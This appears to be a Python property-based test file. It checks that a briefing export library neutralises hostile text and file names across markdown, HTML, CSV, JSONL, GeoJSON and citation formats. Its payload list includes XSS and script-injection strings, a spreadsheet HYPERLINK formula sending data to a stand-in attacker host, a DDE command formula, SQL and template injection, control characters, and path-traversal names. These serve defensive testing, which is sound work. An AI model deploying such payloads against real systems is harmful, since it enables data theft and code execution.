"""Texts that mean harm, in every format and profile: nothing of them runs, calls home or hides.

What a text could do depends on who reads it, so each format is read by what reads it elsewhere. The
texts are put together at random from what is dangerous somewhere.
"""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import geojson
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from briefing.export.context import ExportOptions
from briefing.export.export import export, save
from briefing.export.selection import select
from briefing.library.library import Library
from briefing.text.visible import visible
from tests.briefings import library_of
from tests.export.data.consumers import ran
from tests.export.html.reading import read_html
from tests.export.reading import read
from tests.export.test_consumers import OWN, github

HOME = "http://evil.example/"
HARMFUL = (
    f"![x]({HOME}a.png)",
    f'<img src="{HOME}b" onerror="alert(1)">',
    f'</script><script src="{HOME}c"></script>',
    f'</style><link rel=stylesheet href="{HOME}d">',
    f"![[../../secret|x]] [[x]] `= dv.io()` <% tp %> [a]: {HOME}e",
    f'=HYPERLINK("{HOME}?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+2",
    "\t=1",
    "\u202edlrow\u202c \u2066x",
    "\x1b[2J\x9b2J\x00",
    "\u2028\r\n",
    "---\ntitle: other\n---",
    '"}]}',
    "' or 1=1; --",
    "]]> {{7*7}} ${7*7} {% raw %}",
    "</span><span id='s'>",
    "a|b\n|-|-|",
    "words",
)
"""What some reader of some format would run, fetch or hide; letters that it is told apart by."""
texts = st.lists(st.sampled_from(HARMFUL), min_size=1, max_size=4).map(" ".join)
some = settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def harmful(folder: str, said: list[str]) -> Library:
    """A briefing all of whose texts are among these."""
    a, b, c, d = (json.dumps(text) for text in said)
    return library_of(
        Path(folder),
        f"statements:\n  s: {{form: quote, act: assert, speaker: {{unnamed: {a}, of: ann}}, role: "
        f"{b}, said_as: {c}, chain: [unknown, src], text: {d}, note: {a}, locator: {b}}}\n"
        f"  r: {{form: summary, act: assert, speaker: ann, chain: src, text: {c}, tags: [{d}]}}\n"
        f"incidents:\n  inc: {{title: {a}, date: 2024, date_as: {b}, where: loc, reported_by: [s], "
        f"claimed_by: [], summary: {c}}}\n"
        f"actors:\n  ann: {{name: {b}, kind: person, aliases: [{c}]}}\n"
        f"locations:\n  loc: {{name: {d}, kind: base, at: [33.5, 38.6]}}\n"
        f"sources:\n  src: {{kind: article, outlet: ann, title: {a}, author: {b}, url: {c}}}\n"
        f"terms:\n  t: {{as_printed: [{d}], neutral: {a}, used_by: ann}}\n"
        f"questions:\n  q: {{q: {b}, about: [inc]}}\n"
        f"figures:\n  fig: {{label: {c}, unit: {d}, kind: stock, points: [{{as_of: 2024, value: 3, "
        f"by: s, parts: {{men: 1, women: 2}}, parts_sum: exact}}]}}\n",
        header=f"briefing: {{title: {d}, as_of: 2024, basis: {a}, marking: {b}, authors: [{c}], "
        f"summary: {d}}}\n",
    )


def no_control(text: str) -> None:
    """That every sign is one that is seen, or ends a line."""
    assert visible(text.replace("\n", "")) == text.replace("\n", "")


def markdown(text: str) -> None:
    no_control(text)
    found = read(text)
    assert not [one for one in found.texts if "⟦" in one]
    assert not [one for one in found.links if one.startswith(("javascript:", "data:", "file:"))]
    seen = github(text)
    assert {one.tag for one in seen.walk()} - {"main", ""} <= OWN
    top = re.match(r"---\n(.*?)\n---\n", text, re.DOTALL)
    assert top
    assert "title" not in yaml.safe_load(top[1])


def notes(text: str) -> None:
    """For a wiki: nothing is drawn into a note, and nothing leads out of the folder."""
    markdown(text)
    written = re.sub(r"\\.", "", text.partition("\n---\n")[2])
    assert "![[" not in written
    assert not [one for one in re.findall(r"\[\[([^]|]*)", written) if ".." in one]


def browser(text: str) -> None:
    no_control(text)
    tree = read_html(text)
    assert not [one for one in tree.walk() if one.tag in ("img", "link", "iframe", "object")]
    for one in tree.walk():
        assert not {"src", "srcset", "style", "onerror"} & set(one.attributes)
    assert len(tree.all("script")) <= 1
    policies = [one.attributes.get("http-equiv") for one in tree.all("meta")]
    assert "Content-Security-Policy" in policies


def plain(text: str) -> None:
    no_control(text)


def lines(text: str) -> None:
    for line in text.splitlines():  # of which none is inside a record, whatever splits lines
        json.loads(line)


def table(text: str) -> None:
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")):
        for cell in row:
            number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            assert number or not cell.lstrip(" ").startswith(tuple("=+-@\t\r＝＋－＠")), cell


def places(text: str) -> None:
    found = geojson.loads(text)
    assert found.is_valid
    for one in found["features"]:
        shown = one["properties"]
        no_control(shown.get("title", "") + shown.get("name", ""))


def citing(text: str) -> None:
    assert [one["id"] for one in json.loads(text)] == ["src"]
    made = read_html(ran("pandoc", "-f", "csljson", "--citeproc", "-t", "html", stdin=text))
    assert {one.tag for one in made.walk()} <= {"", "div", "span", "em", "a", "strong", "p"}


WAYS: dict[str, tuple[ExportOptions, Callable[[str], None]]] = {
    "one file": (ExportOptions(), markdown),
    "words alone": (ExportOptions(links="none"), markdown),
    "folder": (ExportOptions(folder=True), markdown),
    "notes": (ExportOptions(links="wiki", folder=True), notes),
    "report": (ExportOptions(profile="report"), markdown),
    "plain": (ExportOptions(profile="plain"), plain),
    "html": (ExportOptions(format="html"), browser),
    "html report": (ExportOptions(format="html", profile="report"), browser),
    "jsonl": (ExportOptions(format="jsonl"), lines),
    "csv": (ExportOptions(format="csv"), table),
    "geojson": (ExportOptions(format="geojson"), places),
    "csl-json": (ExportOptions(format="csl-json"), citing),
}


@pytest.mark.slow
@some
@given(said=st.lists(texts, min_size=4, max_size=4))
def test_no_format_lets_a_text_do_anything(said: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder, closing(harmful(folder, said)) as library:
        for options, check in WAYS.values():
            made = export(library, select(library, "all"), options)
            for document in made.documents():
                if document.path.suffix != ".sql":
                    check(document.text())


_SLUGS = (
    *("../../etc/x", "a/b", "..", "...", "Con", "CON", "-rf", "a\\b", "c:x", "x\x00y", "x%2fy"),
    *("con", "nul", "com1", "index", "ledger", "gaps", "statements", "about", "a" * 200),
    *("b" * 95 + "-1", "b" * 95 + "-2", "1", "readme", "x.md"),
)
"""What a file, a device or a folder could be called, or what could lead out of one."""
_DEVICES = re.compile(r"(?:con|prn|aux|nul|com\d|lpt\d)(?:\..*)?", re.IGNORECASE)


@pytest.mark.slow
@pytest.mark.parametrize("name", WAYS)
@settings(max_examples=4, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(slugs=st.lists(st.sampled_from(_SLUGS), min_size=4, max_size=10, unique=True))
def test_no_name_of_a_record_leads_out_of_a_folder_or_onto_another(
    name: str, slugs: list[str]
) -> None:
    quoted = (json.dumps(slug) for slug in slugs)
    actors = "".join(f"  {slug}: {{name: Somebody, kind: person}}\n" for slug in quoted)
    options, _ = WAYS[name]
    with tempfile.TemporaryDirectory() as folder:
        there, target = Path(folder) / "there", Path(folder) / "out" / "in"
        there.mkdir()
        with closing(library_of(there, f"actors:\n{actors}")) as library:
            before = set(Path(folder).rglob("*"))
            target.mkdir(parents=True)
            if name != "csl-json":  # which has sources alone
                save(export(library, select(library, "all"), options), target)
        written = set(Path(folder).rglob("*")) - before
        assert all(one.is_relative_to(target) or target.is_relative_to(one) for one in written)
        names = [one.name for one in target.iterdir()]
        assert len({one.casefold() for one in names}) == len(names)
        assert [one for one in names if _DEVICES.fullmatch(one) or len(one) > 120] == []
        assert [one for one in names if not re.fullmatch(r"[\w~-][\w.~-]*", one)] == []
